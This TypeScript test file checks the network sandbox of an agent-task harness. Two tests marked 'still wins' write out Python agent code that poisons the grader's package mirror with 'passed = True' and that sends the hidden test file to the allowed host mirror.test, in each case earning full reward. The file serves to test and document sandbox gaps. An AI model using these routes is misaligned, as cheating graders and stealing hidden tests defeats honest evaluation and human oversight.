import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { after, before, it } from 'node:test';
import { listenInNetwork, loopbackNetwork, ownAddress } from '../helpers/egress/loopback-network.ts';
import { type Rollouts, startRollouts } from '../helpers/rollouts/rollouts.ts';

/** A mirror of packages that takes uploads, as a registry does. */
const packages = new Map([['/checks.py', 'passed = False\n']]);
const mirror = createServer(async (request, response) => {
  const { method, url = '' } = request;
  if (method === 'POST') packages.set(url, await text(request));
  response.end(packages.get(url));
});
let rollouts: Rollouts;
let port: number;

before(async () => {
  port = await listenInNetwork(mirror);
  rollouts = await startRollouts((home) => ({
    taskRoots: [home],
    network: { cap: 'allowlist', outside: loopbackNetwork({ 'mirror.test': [ownAddress] }) },
  }));
});
after(async () => {
  await rollouts.close();
  mirror.close();
});

/** Rolls a task out whose agent runs a program of Python, and whose tests run another one, which says the reward. */
async function roll(name: string, { agent, tests }: { readonly agent: string; readonly tests: string }) {
  const policy = `network_mode = "allowlist"\nallowed_hosts = ["mirror.test"]\nallowed_ports = [${port}]\n`;
  const files = {
    'task.toml': `[environment]\ndocker_image = "temper-tasks:bookworm"\n${policy}`,
    'instruction.md': 'Do it.',
    'environment/workspace/a': '',
    'solution/solve.sh': 'python3 /solution/agent.py\n',
    'solution/agent.py': agent,
    'tests/test.sh': 'python3 /tests/tests.py >/logs/verifier/reward.txt\n',
    'tests/tests.py': tests,
  };
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(rollouts.home, name, path)), { recursive: true });
    await writeFile(join(rollouts.home, name, path), content);
  }
  const task = `harbor:${join(rollouts.home, name)}`;
  return rollouts.run(name, { task, agent: 'oracle', sandbox: 'local' });
}

it('a sandbox with a network resolves no name, and sends nothing past the proxy', async () => {
  const result = await roll('direct', {
    agent: `
import socket
found = []
def attempt(name, call):
    try:
        call()
        found.append(name)
    except OSError as error:
        pass
attempt('dns', lambda: socket.getaddrinfo('mirror.test', ${port}))
attempt('tcp', lambda: socket.create_connection(('${ownAddress}', ${port}), 2))
attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)))
attempt('udp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::1', 53)))
open('found', 'w').write(' '.join(found))
`,
    tests: `print(1 if open('found').read() == '' else 0)`,
  });
  assert.deepEqual([result.outcome, result.reward], ['scored', 1], JSON.stringify(result));
  assert.equal(result.network?.requests, 0);
});

it('still wins: a package that the agent uploads to the mirror of its tests', async () => {
  const fetch = `urllib.request.urlopen('http://mirror.test:${port}/checks.py'`;
  const result = await roll('poisoned', {
    agent: `import urllib.request\n${fetch}, data=b'passed = True\\n', timeout=120).read()\n`,
    tests: `import urllib.request\nexec(${fetch}, timeout=120).read())\nprint(1 if passed else 0)\n`,
  });
  assert.deepEqual([result.outcome, result.reward], ['scored', 1], JSON.stringify(result));
  // Both phases have it in their record.
  assert.deepEqual([result.network?.requests, result.verdict?.network?.requests], [1, 1]);
  assert.ok((result.network?.bytesOut ?? 0) > 0);
});

it('still wins: code under test that sends the hidden tests to a host that the tests may reach', async () => {
  const spy = `
import sys, urllib.request
hidden = open(sys.modules['__main__'].__file__, 'rb').read()
urllib.request.urlopen('http://mirror.test:${port}/stolen', data=hidden, timeout=120).read()
`;
  const result = await roll('stolen', {
    agent: `open('solved.py', 'w').write(${JSON.stringify(spy)})`,
    tests: `import sys\nsys.path.insert(0, '.')\nimport solved\nprint(1) # hidden\n`,
  });
  assert.deepEqual([result.outcome, result.reward], ['scored', 1], JSON.stringify(result));
  assert.match(packages.get('/stolen') ?? '', /print\(1\) # hidden/);
  assert.deepEqual([result.network?.requests, result.verdict?.network?.requests], [0, 1]);
});
